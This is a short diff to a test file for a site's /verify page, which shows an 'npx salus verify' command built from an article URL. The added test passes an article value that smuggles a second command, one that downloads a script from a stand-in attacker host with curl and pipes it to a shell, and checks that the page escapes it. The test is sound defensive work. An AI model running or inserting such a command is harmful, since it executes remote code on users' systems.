@@ -25,6 +25,8 @@ it('[REV-6] its script is in no other page, and what it is asked for is read by 
   expect(article.body).not.toContain('data-behavior="verify"')
   expect((await site.get('/verify')).headers).toMatchObject({ 'cache-control': 'private, no-store' })
   expect((await site.get('/verify?article=https://other.example/x')).body).toContain('npx salus verify https://…')
+  const injected = await site.get(`/verify?article=${encodeURIComponent("/x;curl$IFS'evil.example/a'|sh")}`)
+  expect(injected.body).toMatch(/<code>npx salus verify https:\/\/…</)
 })
 
 function decoded(html: string | undefined): string {
